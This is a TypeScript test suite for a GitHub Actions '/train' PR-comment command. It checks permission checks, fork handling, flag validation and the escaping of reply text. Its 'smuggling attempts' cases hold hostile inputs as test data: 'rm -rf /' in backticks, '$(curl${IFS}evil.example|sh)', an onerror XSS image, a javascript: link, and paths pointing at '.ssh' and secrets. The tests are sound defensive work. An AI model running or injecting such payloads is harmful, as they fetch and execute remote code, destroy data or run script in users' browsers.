// /train from PR comments against the OpenAPI-validated GitHub fake.
import { getOctokit } from '@actions/github';
import { GitHubFake } from '../../helpers/github-fake.js';
import {
  handleTrainComment,
  parseTrainCommand,
  finishTrainComment,
  chatOpsOutputs,
  flagsToRaw,
  type ChatOpsDecision,
} from '../../../src/github/chatops/chatops.js';
import type { IssueCommentPayload } from '../../../src/github/events.js';
import { flagsFor } from '../../../src/config/schema.js';

let fake: GitHubFake;
let octokit: ReturnType<typeof getOctokit>;
const PR = 7;
const HEAD_SHA = 'c0ffee'.padEnd(40, '1');

beforeAll(async () => {
  fake = await GitHubFake.start();
});
afterAll(async () => {
  await fake.close();
});
beforeEach(() => {
  octokit = getOctokit(fake.token, { baseUrl: fake.url });
  fake.permissions.set('writer', 'write');
  fake.permissions.set('maintainer', 'maintain');
  fake.permissions.set('reader', 'read');
  fake.permissions.set('triager', 'triage');
  fake.permissions.set('owner', 'admin');
  fake.pulls.set(PR, {
    number: PR,
    head_sha: HEAD_SHA,
    head_ref: 'feature',
    head_repo: fake.fullName,
    base_ref: 'main',
    user: fake.user('writer'),
  });
  fake.pulls.set(8, {
    number: 8,
    head_sha: 'f'.repeat(40),
    head_ref: 'patch-1',
    head_repo: 'stranger/textclf-demo',
    base_ref: 'main',
    user: fake.user('stranger'),
  });
});
afterEach(() => {
  expect(fake.violations).toEqual([]);
});

function event(
  body: string,
  login: string,
  opts: { action?: string; pr?: number; type?: 'User' | 'Bot'; onIssue?: boolean } = {},
): IssueCommentPayload {
  const pr = opts.pr ?? PR;
  const c = fake.addComment(pr, body, fake.user(login, opts.type ?? 'User'));
  return {
    action: opts.action ?? 'created',
    comment: { id: c.id, body, user: { login, type: opts.type ?? 'User' } },
    issue: {
      number: pr,
      pull_request: opts.onIssue ? undefined : { url: `${fake.url}/repos/${fake.fullName}/pulls/${pr}` },
    },
  };
}

const run = (p: IssueCommentPayload, allowForks = false) =>
  handleTrainComment(octokit, { owner: fake.owner, repo: fake.repo }, p, { allowForks });
const lastReply = (pr = PR) => fake.commentsOn(pr).at(-1)!.body;

test('a writer triggers: 👀, parsed flags and the PR head SHA; 🚀 on success', async () => {
  const p = event('/train max_epochs=2 learning_rate=3e-5 model_name_or_path="prajjwal1/bert-tiny"', 'writer');
  const d = await run(p);
  expect(d).toMatchObject({ kind: 'accepted', pr: PR, headSha: HEAD_SHA, headRef: 'feature', actor: 'writer' });
  expect((d as Extract<ChatOpsDecision, { kind: 'accepted' }>).flags).toEqual({
    max_epochs: 2,
    learning_rate: 3e-5,
    model_name_or_path: 'prajjwal1/bert-tiny',
  });
  expect(fake.reactionsOn(p.comment.id)).toEqual(['eyes']);
  expect(fake.commentsOn(PR)).toHaveLength(1); // no reply on acceptance, only the reaction
  expect(chatOpsOutputs(d)).toEqual({
    accepted: 'true',
    reason: '',
    flags: '{"max_epochs":2,"learning_rate":0.00003,"model_name_or_path":"prajjwal1/bert-tiny"}',
    head_sha: HEAD_SHA,
    head_ref: 'feature',
    pr_number: String(PR),
  });
  expect(flagsToRaw((d as Extract<ChatOpsDecision, { kind: 'accepted' }>).flags)).toEqual({
    max_epochs: '2',
    learning_rate: '0.00003',
    model_name_or_path: 'prajjwal1/bert-tiny',
  });
  await finishTrainComment(octokit, { owner: fake.owner, repo: fake.repo }, p.comment.id, true);
  expect(fake.reactionsOn(p.comment.id)).toEqual(['eyes', 'rocket']);
});

test('maintain permission also triggers; failure gets 😕', async () => {
  const p = event('/train', 'maintainer');
  expect((await run(p)).kind).toBe('accepted');
  await finishTrainComment(octokit, { owner: fake.owner, repo: fake.repo }, p.comment.id, false);
  expect(fake.reactionsOn(p.comment.id)).toEqual(['eyes', 'confused']);
});

test('triage (GitHub answers permission: read, role_name: triage) is refused; admin triggers', async () => {
  const p = event('/train', 'triager');
  const d = await run(p);
  expect(d).toMatchObject({ kind: 'refused', reason: 'triager has triage permission' });
  expect(fake.reactionsOn(p.comment.id)).toEqual(['-1']);
  expect(lastReply()).toContain('you have: triage');
  // What the fake answered is what GitHub answers (so the refusal above is about the role).
  const { data } = await octokit.rest.repos.getCollaboratorPermissionLevel({
    owner: fake.owner,
    repo: fake.repo,
    username: 'triager',
  });
  expect([data.permission, data.role_name, data.user?.permissions]).toEqual([
    'read',
    'triage',
    { admin: false, maintain: false, push: false, triage: true, pull: true },
  ]);
  const m = await octokit.rest.repos.getCollaboratorPermissionLevel({
    owner: fake.owner,
    repo: fake.repo,
    username: 'maintainer',
  });
  expect([m.data.permission, m.data.role_name]).toEqual(['write', 'maintain']);
  expect((await run(event('/train', 'owner'))).kind).toBe('accepted');
});

test('a read-only user is refused with 👎 and a reply, no training', async () => {
  const p = event('/train max_epochs=2', 'reader');
  const d = await run(p);
  expect(d.kind).toBe('refused');
  expect(fake.reactionsOn(p.comment.id)).toEqual(['-1']);
  expect(lastReply()).toContain('needs write, maintain or admin permission');
  expect(lastReply()).toContain('you have: read');
  expect(chatOpsOutputs(d)).toMatchObject({
    accepted: 'false',
    reason: 'reader has read permission',
    flags: '{}',
    head_sha: '',
  });
});

test('the same refused comment checked twice (chatops step, then train step) is answered once', async () => {
  const p = event('/train max_epochs=2', 'reader');
  const first = await run(p);
  const second = await run(p);
  const replies = fake.commentsOn(PR).filter((c) => c.body.includes(`in-reply-to ${p.comment.id} `));
  expect(replies).toHaveLength(1);
  expect(second).toMatchObject({ kind: 'refused', replyId: replies[0]!.id });
  expect(first).toEqual(second);
});

test('a user who is not a collaborator at all (404) is refused', async () => {
  const d = await run(event('/train', 'nobody'));
  expect(d).toMatchObject({ kind: 'refused', reason: 'nobody has none permission' });
});

test('a fork PR is refused unless allow_forks', async () => {
  const p = event('/train max_epochs=1', 'writer', { pr: 8 });
  const d = await run(p);
  expect(d).toMatchObject({ kind: 'refused', reason: 'pull request from a fork' });
  expect(lastReply(8)).toContain('`allow_forks: true`');
  expect(fake.reactionsOn(p.comment.id)).toEqual(['-1']);
  const again = await run(event('/train max_epochs=1', 'writer', { pr: 8 }), true);
  expect(again).toMatchObject({ kind: 'accepted', headSha: 'f'.repeat(40), headRepo: 'stranger/textclf-demo' });
});

test.each([
  ['/train max_epochs=-1', "max_epochs: '-1' is not valid; expected an integer >= 1 and <= 1000"],
  ['/train foo=bar', "unknown key 'foo'"],
  ['/train learning_rate=abc', "learning_rate: 'abc' is not valid; expected a number > 0 and <= 1"],
  ['/train output_dir=/etc', "unknown key 'output_dir'"],
  ['/train github_token=x', "unknown key 'github_token'"],
  [
    '/train model_name_or_path=/home/runner/.ssh',
    "model_name_or_path: '/home/runner/.ssh' is not a Hugging Face hub id (name or org/name); /train cannot load local paths",
  ],
  [
    '/train model_name_or_path=../../secrets',
    "model_name_or_path: '../../secrets' is not a Hugging Face hub id (name or org/name); /train cannot load local paths",
  ],
])('%s gets a reply listing the valid keys and no training', async (body, problem) => {
  const p = event(body, 'writer');
  const d = await run(p);
  expect(d.kind).toBe('invalid');
  expect((d as { problems: string[] }).problems).toEqual([problem]);
  expect(fake.reactionsOn(p.comment.id)).toEqual(['-1']);
  const reply = lastReply();
  for (const s of flagsFor('chatops')) expect(reply).toContain(`| \`${s.name}\` |`);
  expect(reply).not.toContain('`datastore`');
});

test('every problem is listed in one reply', async () => {
  const d = await run(event('/train max_epochs=0 foo=1 max_epochs=3 batch_size', 'writer'));
  expect((d as { problems: string[] }).problems).toEqual([
    "'max_epochs' is given more than once",
    "'batch_size' is not key=value",
    "max_epochs: '0' is not valid; expected an integer >= 1 and <= 1000",
    "unknown key 'foo'",
  ]);
});

describe('smuggling attempts are answered safely', () => {
  const cases: [string, string][] = [
    ['backticks', '/train text_column="`rm -rf /`" max_epochs=x`whoami`'],
    ['command substitution', '/train max_epochs=$(curl${IFS}evil.example|sh)'],
    ['html image', '/train foo="<img src=x onerror=alert(1)>"'],
    ['mention', '/train max_epochs=@octo-org/admins'],
    ['link', '/train foo="[click](javascript:alert(1))"'],
  ];
  test.each(cases)('%s', async (_name, body) => {
    const p = event(body, 'writer');
    const d = await run(p);
    expect(d.kind).toBe('invalid');
    const reply = lastReply();
    const problems = reply.split('Usage:')[0];
    expect(problems).not.toMatch(/<img/i);
    expect(problems).not.toMatch(/(^|[^\\])`[^`]*(rm|whoami)/); // no live code span around the payload
    expect(problems).not.toMatch(/(^|[^\\])\$\(/); // no unescaped $( (math or shell lookalike)
    expect(problems).not.toMatch(/@octo-org/); // mention neutralised (zero-width space after @)
    expect(problems).not.toMatch(/(^|[^\\])\]\(javascript/);
  });

  test('a quoted string value is data, accepted verbatim but only as a flag value', async () => {
    const d = await run(event('/train text_column="$(touch /tmp/pwned) `id`"', 'writer'));
    expect(d).toMatchObject({ kind: 'accepted', flags: { text_column: '$(touch /tmp/pwned) `id`' } });
  });
});

test("edited comments, bots, the action's own comments, issues and other text never trigger", async () => {
  const cases: [IssueCommentPayload, string][] = [
    [event('/train', 'writer', { action: 'edited' }), 'comment edited; only new comments trigger'],
    [event('/train', 'dependabot[bot]', { type: 'Bot' }), 'comment by a bot'],
    [event('<!-- textclf:chatops-reply -->\n/train', 'writer'), "the action's own comment"],
    [event('/train', 'writer', { onIssue: true }), 'comment is on an issue, not a pull request'],
    [event('please /train this', 'writer'), 'not a /train command'],
    [event('/training is slow', 'writer'), 'not a /train command'],
  ];
  const before = fake.requests.length;
  for (const [p, reason] of cases) expect(await run(p)).toEqual({ kind: 'ignored', reason });
  expect(fake.requests.length).toBe(before); // not even a permission lookup
});

test('parseTrainCommand: quoting and the first line only', () => {
  expect(parseTrainCommand('/train text_column=\'my text\' label_column="a \\"b\\""\nmore words')).toEqual({
    flags: { text_column: 'my text', label_column: 'a "b"' },
    raw: { text_column: 'my text', label_column: 'a "b"' },
  });
  expect(parseTrainCommand('/train max_epochs="2')).toEqual({
    problems: ['unbalanced " quote; close it or remove it'],
  });
});

test("the fake answers in GitHub's shapes (spec example + state, checked against the response schema)", async () => {
  const { data } = await octokit.rest.issues.createComment({
    owner: fake.owner,
    repo: fake.repo,
    issue_number: PR,
    body: 'hello',
  });
  expect(data).toMatchObject({ body: 'hello', user: { login: 'github-actions[bot]', type: 'Bot' } });
  for (const key of ['id', 'node_id', 'url', 'html_url', 'issue_url', 'created_at', 'updated_at', 'author_association'])
    expect(data).toHaveProperty(key);
  const { data: perm } = await octokit.rest.repos.getCollaboratorPermissionLevel({
    owner: fake.owner,
    repo: fake.repo,
    username: 'reader',
  });
  expect(perm).toMatchObject({
    permission: 'read',
    user: { login: 'reader', permissions: { push: false, pull: true } },
  });
});

test('the fake rejects requests that violate the OpenAPI description', async () => {
  const res = await fetch(`${fake.url}/repos/${fake.fullName}/issues/comments/1/reactions`, {
    method: 'POST',
    headers: { authorization: 'token x', 'content-type': 'application/json' },
    body: JSON.stringify({ content: 'thumbsup' }),
  });
  expect(res.status).toBe(400);
  expect(fake.violations.splice(0)).toEqual([expect.stringContaining('must be equal to one of the allowed values')]);
  const typo = await fetch(`${fake.url}/repos/${fake.fullName}/issues/7/comments`, {
    method: 'POST',
    headers: { authorization: 'token x', 'content-type': 'application/json' },
    body: JSON.stringify({ body: 'x', bdy: 'y' }),
  });
  expect(typo.status).toBe(400);
  expect(fake.violations.splice(0)).toEqual([expect.stringContaining("unknown body property 'bdy'")]);
  const q = await fetch(`${fake.url}/repos/${fake.fullName}/actions/workflows/1/runs?statuz=success`, {
    headers: { authorization: 'token x' },
  });
  expect(q.status).toBe(400);
  expect(fake.violations.splice(0)).toEqual([expect.stringContaining("unknown query parameter 'statuz'")]);
});

test("parseTrainCommand: Lightning's spellings set our flag (the overlay carries its name)", () => {
  expect(parseTrainCommand('/train gradient_clip_val=0.5 limit_train_batches=1')).toEqual({
    flags: { max_grad_norm: 0.5, limit_train_batches: '1' },
    raw: { max_grad_norm: '0.5', limit_train_batches: '1' },
  });
  expect(parseTrainCommand('/train max_grad_norm=1 gradient_clip_val=0.5')).toEqual({
    problems: ["'gradient_clip_val' sets max_grad_norm, which is given already"],
  });
});
